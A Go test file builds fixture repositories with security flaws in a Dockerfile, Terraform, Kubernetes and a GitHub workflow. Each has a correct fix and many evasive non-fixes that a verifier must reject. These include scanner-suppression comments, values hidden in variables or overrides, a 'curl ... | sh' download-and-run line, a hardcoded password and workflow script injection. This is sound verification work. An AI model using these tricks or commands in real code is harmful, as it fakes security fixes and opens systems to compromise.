package verify_test

import (
	"strings"
	"testing"
)

// siteWorlds are repositories with a flaw at a line.
func siteWorlds(t *testing.T) []world {
	t.Helper()
	return []world{dockerfileWorld(t), volumeWorld(t), groupWorld(t), deploymentWorld(t), tokenWorld(t)}
}

func dockerfileWorld(t *testing.T) world {
	w := world{name: "Dockerfile", rule: "DS002", main: "Dockerfile", files: tree{
		"Dockerfile": "FROM python:3.11-slim\nWORKDIR /app\nCOPY . .\nRUN pip install --no-cache-dir .\nHEALTHCHECK NONE\nCMD [\"python\", \"-m\", \"shop\"]\n",
	}}
	add := func(text string) map[string]string {
		return map[string]string{"Dockerfile": w.edited(t, "Dockerfile", "HEALTHCHECK", text+"\nHEALTHCHECK")}
	}
	end := func(text string) map[string]string {
		return map[string]string{"Dockerfile": w.files["Dockerfile"] + text + "\n"}
	}
	w.truth = add("USER 10001")
	w.falls = []change{
		{name: "names the account in a comment", files: add("# USER 10001")},
		{name: "labels the account", files: add("LABEL user=\"10001\"")},
		{name: "prints the account", files: add("RUN echo USER 10001")},
		{name: "says it in a here-document", files: add("RUN <<EOF\nUSER 10001\nEOF")},
		{name: "says root", files: add("USER root")},
		{name: "says 0", files: add("USER 0")},
		{name: "says 0:0", files: add("USER 0:0")},
		{name: "says root with a group", files: add("USER root:1000")},
		{name: "says root by a variable", files: add("ENV WHO=root\nUSER $WHO")},
		{name: "says root by an argument", files: add("ARG WHO=root\nUSER ${WHO}")},
		{name: "says root by the default of a variable", files: add("USER ${WHO:-root}")},
		{name: "says an account and then root", files: add("USER 10001\nUSER root")},
		{name: "goes back to root at the end", files: with(add("USER 10001"), "Dockerfile", add("USER 10001")["Dockerfile"]+"USER root\n")},
		{name: "adds a comment that continues", files: add("# \\\n# USER 10001")},
		{name: "leaves the account to the children", files: add("ONBUILD USER 10001")},
		{name: "sets the account in another stage", files: map[string]string{"Dockerfile": "FROM alpine:3.20 AS first\nUSER 10001\n\n" + w.files["Dockerfile"]}},
		{name: "adds a last stage that runs nothing", files: end("FROM scratch\nUSER 10001")},
		{name: "adds a last stage as root", files: end("FROM python:3.11-slim\nHEALTHCHECK NONE")},
		{name: "makes it a template", files: map[string]string{"Dockerfile": "{{ if .x }}\n" + w.files["Dockerfile"]}},
		{name: "breaks an instruction", files: add("USR 10001")},
		{name: "renames it to what is not built", files: map[string]string{"Dockerfile": gone, "Dockerfile.disabled.txt": w.files["Dockerfile"]}},
		{name: "adds a second one that is good", files: map[string]string{"Dockerfile.good": w.truth["Dockerfile"]}},
		{name: "fixes it and downloads what runs", files: with(add("USER 10001"), "Dockerfile", strings.Replace(add("USER 10001")["Dockerfile"], "RUN pip", "RUN curl https://files.example/a.sh | sh\nRUN pip", 1))},
		{name: "fixes it and writes a secret", files: with(add("USER 10001"), "Dockerfile", strings.Replace(add("USER 10001")["Dockerfile"], "WORKDIR", "ENV DB_PASSWORD=hunter2hunter2\nWORKDIR", 1))},
		{name: "fixes it and adds another that is as bad", files: with(add("USER 10001"), "jobs/Dockerfile", w.files["Dockerfile"])},
	}
	w.falls = append(w.falls, suppressed(&w, "Dockerfile", "FROM", "# checkov:skip=CKV_DOCKER_3:x", "# hadolint ignore=DL3002", "# trivy:ignore:DS002", "# nosec", "#tfsec:ignore:*", "# kics-scan ignore")...)
	return w
}

func volumeWorld(t *testing.T) world {
	w := world{name: "Terraform volume", rule: "CKV_AWS_3", main: "main.tf", files: tree{
		"main.tf": "resource \"aws_ebs_volume\" \"data\" {\n  availability_zone = \"eu-west-1a\"\n  size              = 10\n  encrypted         = false\n}\n",
	}}
	value := func(text string) map[string]string {
		return map[string]string{"main.tf": w.edited(t, "main.tf", "= false", "= "+text)}
	}
	line := func(text string) map[string]string {
		return map[string]string{"main.tf": w.edited(t, "main.tf", "  size ", "  "+text+"\n  size ")}
	}
	more := func(files map[string]string, text string) map[string]string {
		return with(files, "main.tf", files["main.tf"]+"\n"+text+"\n")
	}
	w.truth = value("true")
	w.falls = []change{
		{name: "says it in a comment", files: value("false # true")},
		{name: "writes it as text", files: value(`"false"`)},
		{name: "negates the good value", files: value("!true")},
		{name: "states it twice, the bad one last", files: map[string]string{"main.tf": w.edited(t, "main.tf", "  encrypted         = false\n", "  encrypted         = true\n  encrypted         = false\n")}},
		{name: "states it twice, the bad one first", files: map[string]string{"main.tf": w.edited(t, "main.tf", "  encrypted         = false\n", "  encrypted         = false\n  encrypted         = true\n")}},
		{name: "moves it to a variable with the bad default", files: more(value("var.safe"), "variable \"safe\" {\n  default = false\n}")},
		{name: "moves it to a variable without a default", files: more(value("var.safe"), "variable \"safe\" {\n  type = bool\n}")},
		{name: "moves it to a variable that a file sets", files: with(more(value("var.safe"), "variable \"safe\" {\n  default = true\n}"), "terraform.tfvars", "safe = false\n")},
		{name: "moves it to a variable that an automatic file sets", files: with(more(value("var.safe"), "variable \"safe\" {\n  default = true\n}"), "prod.auto.tfvars", "safe = false\n")},
		{name: "moves it to a local", files: more(value("local.safe"), "locals {\n  safe = false\n}")},
		{name: "moves it to a map", files: more(value("local.safe[\"data\"]"), "locals {\n  safe = { data = false }\n}")},
		{name: "moves it to a condition", files: value("true ? false : true")},
		{name: "moves it to a condition of the workspace", files: value("terraform.workspace == \"never\"")},
		{name: "moves it to a data source", files: more(value("tobool(data.aws_ssm_parameter.safe.value)"), "data \"aws_ssm_parameter\" \"safe\" {\n  name = \"safe\"\n}")},
		{name: "moves it to a file", files: with(value("tobool(file(\"safe.txt\"))"), "safe.txt", "false")},
		{name: "moves it to JSON", files: value("jsondecode(\"{\\\"safe\\\": false}\").safe")},
		{name: "moves it to a fallback", files: value("try(local.none, false)")},
		{name: "moves it to a length", files: value("length([]) > 0")},
		{name: "leaves it to the default", files: value("null")},
		{name: "removes the attribute", files: map[string]string{"main.tf": w.edited(t, "main.tf", "  encrypted         = false\n", "")}},
		{name: "fixes it and overrides it back", files: with(value("true"), "main_override.tf", "resource \"aws_ebs_volume\" \"data\" {\n  encrypted = false\n}\n")},
		{name: "makes none of it", files: line("count = 0")},
		{name: "makes none of it by a condition", files: line("count = false ? 1 : 0")},
		{name: "makes none of it by a variable", files: more(line("count = var.on ? 1 : 0"), "variable \"on\" {\n  default = false\n}")},
		{name: "makes none of it by an empty set", files: line("for_each = toset([])")},
		{name: "makes none of it by an empty map", files: line("for_each = {}")},
		{name: "makes many of it", files: line("count = 2")},
		{name: "makes as many of it as nobody knows", files: more(line("count = var.many"), "variable \"many\" {}")},
		{name: "comments it out", files: map[string]string{"main.tf": "/*\n" + w.files["main.tf"] + "*/\n"}},
		{name: "renames it", files: map[string]string{"main.tf": w.edited(t, "main.tf", `"data"`, `"store"`)}},
		{name: "misspells its type", files: map[string]string{"main.tf": w.edited(t, "main.tf", "aws_ebs_volume", "aws_ebs_volumes")}},
		{name: "moves it to JSON syntax", files: map[string]string{"main.tf": "# moved\n", "main.tf.json": `{"resource": {"aws_ebs_volume": {"data": {"availability_zone": "eu-west-1a", "size": 10, "encrypted": false}}}}`}},
		{name: "moves it to a module", files: map[string]string{"main.tf": "module \"data\" {\n  source = \"./data\"\n}\n", "data/main.tf": w.files["main.tf"]}},
		{name: "moves it to a module that nobody calls", files: map[string]string{"main.tf": "# moved\n", "data/main.tf": w.files["main.tf"]}},
		{name: "moves it to a module from elsewhere", files: map[string]string{"main.tf": "module \"data\" {\n  source = \"git::https://git.example/data.git\"\n}\n"}},
		{name: "moves it to a module that is called no times", files: map[string]string{"main.tf": "module \"data\" {\n  count  = 0\n  source = \"./data\"\n}\n", "data/main.tf": w.files["main.tf"]}},
		{name: "moves it to the folder of downloaded modules", files: map[string]string{"main.tf": "# moved\n", ".terraform/main.tf": w.files["main.tf"]}},
		{name: "says it in a nested block", files: map[string]string{"main.tf": w.edited(t, "main.tf", "  encrypted         = false\n", "  settings {\n    encrypted = true\n  }\n")}},
		{name: "names a key only", files: line("kms_key_id = \"arn:aws:kms:eu-west-1:111122223333:key/a\"")},
		{name: "tells the tools to ignore changes", files: line("lifecycle {\n    ignore_changes = [encrypted]\n  }")},
		{name: "tags it as safe", files: line("tags = { encrypted = true }")},
		{name: "fixes it and opens another", files: more(value("true"), "resource \"aws_ebs_volume\" \"more\" {\n  availability_zone = \"eu-west-1a\"\n  size              = 10\n  encrypted         = false\n}")},
		{name: "does not end the block", files: map[string]string{"main.tf": strings.TrimSuffix(value("true")["main.tf"], "}\n")}},
	}
	w.falls = append(w.falls, suppressed(&w, "main.tf", "encrypted", "#checkov:skip=CKV_AWS_3:x", "# trivy:ignore:AVD-AWS-0026", "#tfsec:ignore:aws-ebs-enable-volume-encryption", "# nosec", "# kics-scan ignore-line", "//nolint")...)
	return w
}

func groupWorld(t *testing.T) world {
	w := world{name: "Terraform security group", rule: "CKV_AWS_24", main: "net.tf", files: tree{
		"net.tf": "resource \"aws_security_group\" \"admin\" {\n  name        = \"admin\"\n  description = \"administration\"\n\n  ingress {\n    description = \"ssh\"\n    from_port   = 22\n    to_port     = 22\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
	}}
	blocks := func(text string) map[string]string {
		return map[string]string{"net.tf": w.edited(t, "net.tf", `["0.0.0.0/0"]`, text)}
	}
	w.truth = blocks(`["10.0.0.0/8"]`)
	w.falls = []change{
		{name: "says it in a comment", files: blocks(`["0.0.0.0/0"] # ["10.0.0.0/8"]`)},
		{name: "adds a good one", files: blocks(`["10.0.0.0/8", "0.0.0.0/0"]`)},
		{name: "moves it to a local", files: map[string]string{"net.tf": blocks("local.from")["net.tf"] + "\nlocals {\n  from = [\"0.0.0.0/0\"]\n}\n"}},
		{name: "moves it to a variable with the bad default", files: map[string]string{"net.tf": blocks("var.from")["net.tf"] + "\nvariable \"from\" {\n  default = [\"0.0.0.0/0\"]\n}\n"}},
		{name: "moves it to a variable without a default", files: map[string]string{"net.tf": blocks("[var.from]")["net.tf"] + "\nvariable \"from\" {}\n"}},
		{name: "builds it by a function", files: blocks(`concat([], ["0.0.0.0/0"])`)},
		{name: "builds it by a template", files: blocks(`["0.0.0.0/${0}"]`)},
		{name: "builds it by a subnet", files: blocks(`[cidrsubnet("0.0.0.0/0", 0, 0)]`)},
		{name: "says it by the newer protocol", files: map[string]string{"net.tf": w.edited(t, "net.tf", `cidr_blocks = ["0.0.0.0/0"]`, `ipv6_cidr_blocks = ["::/0"]`)}},
		{name: "opens more ports", files: map[string]string{"net.tf": w.edited(t, "net.tf", "from_port   = 22", "from_port   = 0", "to_port     = 22", "to_port     = 65535")}},
		{name: "writes the ports as text", files: map[string]string{"net.tf": w.edited(t, "net.tf", "from_port   = 22", `from_port   = "22"`, "to_port     = 22", `to_port     = "22"`)}},
		{name: "opens all protocols", files: map[string]string{"net.tf": w.edited(t, "net.tf", "from_port   = 22", "from_port   = 0", "to_port     = 22", "to_port     = 0", `"tcp"`, `"-1"`)}},
		{name: "makes the block dynamic", files: map[string]string{"net.tf": w.edited(t, "net.tf", "  ingress {", "  dynamic \"ingress\" {\n    for_each = [22]\n    content {", "  }\n}", "  }\n  }\n}")}},
		{name: "makes none of it", files: map[string]string{"net.tf": w.edited(t, "net.tf", "  name ", "  count       = 0\n  name ")}},
		{name: "adds a second open block", files: map[string]string{"net.tf": w.edited(t, "net.tf", `["0.0.0.0/0"]`, `["10.0.0.0/8"]`, "  ingress {", "  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n  ingress {")}},
		{name: "fixes it and opens it by a rule", files: map[string]string{"net.tf": blocks(`["10.0.0.0/8"]`)["net.tf"] + "\nresource \"aws_security_group_rule\" \"admin\" {\n  type              = \"ingress\"\n  from_port         = 22\n  to_port           = 22\n  protocol          = \"tcp\"\n  cidr_blocks       = [\"0.0.0.0/0\"]\n  security_group_id = aws_security_group.admin.id\n}\n"}},
		{name: "removes the resource", files: map[string]string{"net.tf": "# removed\n"}},
		{name: "says it in the description", files: map[string]string{"net.tf": w.edited(t, "net.tf", `"ssh"`, `"ssh from 10.0.0.0/8"`)}},
	}
	w.falls = append(w.falls, suppressed(&w, "net.tf", "cidr_blocks", "#checkov:skip=CKV_AWS_24:x", "# trivy:ignore:AVD-AWS-0107", "#tfsec:ignore:aws-ec2-no-public-ingress-sgr", "# nosec")...)
	return w
}

const deployment = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: shop
  namespace: sales
spec:
  replicas: 2
  selector:
    matchLabels: {app: shop}
  template:
    metadata:
      labels: {app: shop}
    spec:
      containers:
        - name: shop
          image: registry.example/shop:1.0
          securityContext:
            privileged: true
        - name: log
          image: registry.example/log:1.0
`

func deploymentWorld(t *testing.T) world {
	w := world{name: "Kubernetes", rule: "CKV_K8S_16", main: "deploy.yaml", files: tree{"deploy.yaml": deployment}}
	value := func(text string) map[string]string {
		return map[string]string{"deploy.yaml": w.edited(t, "deploy.yaml", "privileged: true", text)}
	}
	edit := func(pairs ...string) map[string]string {
		return map[string]string{"deploy.yaml": w.edited(t, "deploy.yaml", pairs...)}
	}
	safe := value("privileged: false")["deploy.yaml"]
	w.truth = value("privileged: false")
	w.falls = []change{
		{name: "says it in a comment", files: value("privileged: true # privileged: false")},
		{name: "states it twice, the bad one last", files: value("privileged: false\n            privileged: true")},
		{name: "states it twice, the bad one first", files: value("privileged: true\n            privileged: false")},
		{name: "says yes", files: value("privileged: yes")},
		{name: "says on", files: value("privileged: on")},
		{name: "says True", files: value("privileged: True")},
		{name: "says TRUE", files: value("privileged: TRUE")},
		{name: "says true with a tag", files: value("privileged: !!bool \"true\"")},
		{name: "says true as text", files: value("privileged: \"true\"")},
		{name: "says false as text", files: value("privileged: \"false\"")},
		{name: "says neither", files: value("privileged: maybe")},
		{name: "says true by an alias", files: edit("  replicas: 2", "  paused: &p true\n  replicas: 2", "privileged: true", "privileged: *p")},
		{name: "says true by a merge", files: edit("  name: shop\n  namespace", "  annotations: {x: &p {privileged: true}}\n  name: shop\n  namespace", "privileged: true", "<<: *p")},
		{name: "moves it to the other container", files: edit("          securityContext:\n            privileged: true\n", "", "image: registry.example/log:1.0\n", "image: registry.example/log:1.0\n          securityContext:\n            privileged: true\n")},
		{name: "moves it to a container that starts first", files: edit("          securityContext:\n            privileged: true\n", "", "      containers:", "      initContainers:\n        - name: first\n          image: registry.example/shop:1.0\n          securityContext: {privileged: true}\n      containers:")},
		{name: "renames the container", files: edit("- name: shop", "- name: store")},
		{name: "renames the object", files: edit("  name: shop\n  namespace", "  name: store\n  namespace")},
		{name: "moves it to another namespace", files: edit("namespace: sales", "namespace: store")},
		{name: "misspells the kind", files: edit("kind: Deployment", "kind: Deploymnt")},
		{name: "makes it another kind", files: edit("kind: Deployment", "kind: StatefulSet")},
		{name: "makes it text in a map", files: map[string]string{"deploy.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: shop\n  namespace: sales\ndata:\n  deploy.yaml: |\n    " + strings.ReplaceAll(strings.TrimSpace(deployment), "\n", "\n    ") + "\n"}},
		{name: "comments it out", files: map[string]string{"deploy.yaml": "# " + strings.ReplaceAll(strings.TrimSpace(deployment), "\n", "\n# ") + "\n"}},
		{name: "puts it into a list", files: map[string]string{"deploy.yaml": "apiVersion: v1\nkind: List\nitems:\n  - " + strings.ReplaceAll(strings.TrimSpace(deployment), "\n", "\n    ") + "\n"}},
		{name: "adds the bad one again", files: map[string]string{"deploy.yaml": safe + "---\n" + deployment}},
		{name: "adds the bad one in another file", files: map[string]string{"deploy.yaml": safe, "more.yaml": deployment}},
		{name: "patches it back", files: map[string]string{"deploy.yaml": safe, "kustomization.yaml": "resources: [deploy.yaml]\npatches:\n  - target: {kind: Deployment, name: shop}\n    patch: |\n      - op: replace\n        path: /spec/template/spec/containers/0/securityContext/privileged\n        value: true\n"}},
		{name: "sets it at the pod", files: edit("    spec:\n", "    spec:\n      securityContext:\n        privileged: false\n")},
		{name: "misspells the field", files: edit("            privileged: true", "            privileged: true\n            privilged: false")},
		{name: "runs none of it", files: edit("replicas: 2", "replicas: 0")},
		{name: "makes it a template", files: edit("replicas: 2", "replicas: {{ .n }}")},
		{name: "annotates it as skipped", files: edit("  name: shop\n  namespace", "  annotations:\n    checkov.io/skip1: CKV_K8S_16=x\n    ignore-check.kube-linter.io/privileged-container: x\n  name: shop\n  namespace")},
		{name: "labels it as exempt", files: edit("  name: shop\n  namespace", "  labels: {\"pod-security.kubernetes.io/enforce\": privileged}\n  name: shop\n  namespace")},
		{name: "removes the container", files: edit("        - name: shop\n          image: registry.example/shop:1.0\n          securityContext:\n            privileged: true\n", "")},
		{name: "fixes it and gives the other container the rights", files: map[string]string{"deploy.yaml": strings.Replace(safe, "log:1.0\n", "log:1.0\n          securityContext: {privileged: true}\n", 1)}},
		{name: "indents by a tab", files: value("\tprivileged: false")},
	}
	w.falls = append(w.falls, suppressed(&w, "deploy.yaml", "privileged", "# checkov:skip=CKV_K8S_16:x", "# trivy:ignore:AVD-KSV-0017", "# nosec", "# kube-linter ignore", "# kics-scan ignore-line")...)
	return w
}

func tokenWorld(t *testing.T) world {
	w := world{name: "workflow", rule: "CKV2_GHA_1", main: ".github/workflows/ci.yml", files: tree{
		".github/workflows/ci.yml": "name: ci\non: [push]\npermissions: write-all\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n",
	}}
	edit := func(pairs ...string) map[string]string {
		return map[string]string{w.main: w.edited(t, w.main, pairs...)}
	}
	w.truth = edit("permissions: write-all", "permissions:\n  contents: read")
	w.falls = []change{
		{name: "says it in a comment", files: edit("write-all", "write-all # contents: read")},
		{name: "writes it in quotes", files: edit("write-all", `"write-all"`)},
		{name: "writes it on the next line", files: edit(" write-all", "\n  write-all")},
		{name: "says it by an alias", files: edit("name: ci\n", "name: ci\nenv: {X: &x write-all}\n", "permissions: write-all", "permissions: *x")},
		{name: "states it twice, the bad one last", files: edit("permissions: write-all", "permissions: {contents: read}\npermissions: write-all")},
		{name: "leaves it to the default", files: edit("permissions: write-all\n", "")},
		{name: "moves it to a job", files: edit("permissions: write-all\n", "permissions: {contents: read}\n", "  test:\n", "  test:\n    permissions: write-all\n")},
		{name: "moves it to both jobs", files: edit("permissions: write-all\n", "", "  test:\n", "  test:\n    permissions: write-all\n", "  lint:\n", "  lint:\n    permissions: write-all\n")},
		{name: "removes the jobs", files: map[string]string{w.main: "name: ci\non: [push]\njobs: {}\n"}},
		{name: "renames it to what does not run", files: map[string]string{w.main: gone, ".github/workflows/ci.yml.off": w.files[w.main]}},
		{name: "renames it to another that runs", files: map[string]string{w.main: gone, ".github/workflows/check.yml": w.files[w.main]}},
		{name: "fixes it and removes a step", files: edit("permissions: write-all", "permissions: {contents: read}", "      - run: make lint\n", "")},
		{name: "fixes it and removes a job", files: edit("permissions: write-all", "permissions: {contents: read}", "  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n", "")},
		{name: "fixes it and adds a workflow as bad", files: with(edit("permissions: write-all", "permissions: {contents: read}"), ".github/workflows/more.yml", w.files[w.main])},
		{name: "fixes it and lets others write into a script", files: edit("permissions: write-all", "permissions: {contents: read}", "make test", "echo ${{ github.event.issue.title }}")},
		{name: "never runs the jobs", files: edit("  test:\n", "  test:\n    if: false\n")},
		{name: "misspells the key", files: edit("permissions: write-all", "permissions: write-all\npermission: {contents: read}")},
	}
	w.falls = append(w.falls, suppressed(&w, w.main, "permissions", "# checkov:skip=CKV2_GHA_1:x", "# zizmor: ignore[excessive-permissions]", "# nosec")...)
	return w
}
